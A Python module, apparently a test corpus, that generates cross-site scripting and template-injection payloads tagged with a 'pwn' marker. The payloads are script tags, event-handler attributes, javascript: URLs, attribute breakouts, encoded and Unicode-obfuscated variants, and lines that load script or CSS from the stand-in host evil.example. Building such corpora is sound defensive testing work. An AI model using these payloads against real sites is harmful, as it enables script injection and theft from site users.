"""What people may try to write so that it runs: markup, addresses and breaks out of attributes, each with a mark to find it by."""

from __future__ import annotations

from itertools import product

MARK = "pwn"
RUN = "window.pwn=1;alert(1)"

_ELEMENTS = (
    "<script>{run}</script>",
    "<script src=//evil.example/pwn.js></script>",
    "<img src=x onerror={run}>",
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<math><mtext><img src=x onerror={run}></mtext></math>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<iframe src=javascript:{run}></iframe>",
    "<object data=javascript:{run}></object>",
    "<embed src=javascript:{run}>",
    "<body onload={run}>",
    "<details open ontoggle={run}>",
    "<video><source onerror={run}></video>",
    "<audio src=x onerror={run}>",
    "<input autofocus onfocus={run}>",
    "<a href=javascript:{run}>pwn</a>",
    "<form action=javascript:{run}><button>pwn</button></form>",
    "<base href=//evil.example/pwn/>",
    "<link rel=stylesheet href=//evil.example/pwn.css>",
    "<style>@import '//evil.example/pwn.css';</style>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<template><img src=x onerror={run}></template>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<marquee onstart={run}>pwn</marquee>",
)
_AROUND = ("{}", '">{}', "'>{}", "</title>{}", "</script>{}", "</textarea>{}", "--!>{}", "]]>{}")
_ALONE = (
    "javascript:{run}",
    "data:text/html,<script>{run}</script>",
    "' onmouseover={run} x='",
    '" onmouseover={run} x="',
    "{{{{constructor.constructor('{run}')()}}}}",
    "{{{{ 7*7 }}}} pwn",
    "{{% raw %}}pwn{{% endraw %}}",
    "${{{run}}}",
    "<%= pwn %>",
    "[pwn](javascript:{run})",
    "![pwn](x onerror={run})",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&#60;script&#62;{run}&#60;/script&#62;",
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
    "%3Cscript%3E{run}%3C/script%3E",
    "＜script＞{run}＜/script＞",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "\u202e<script>{run}</script>\u202c",
    "pwn\u200b<img src=x onerror={run}>\ufeff",
    "__proto__ pwn",
)

PAYLOADS = tuple(
    dict.fromkeys(
        [around.format(element.format(run=RUN)) for around, element in product(_AROUND, _ELEMENTS)]
        + [text.format(run=RUN) for text in _ALONE]
    )
)
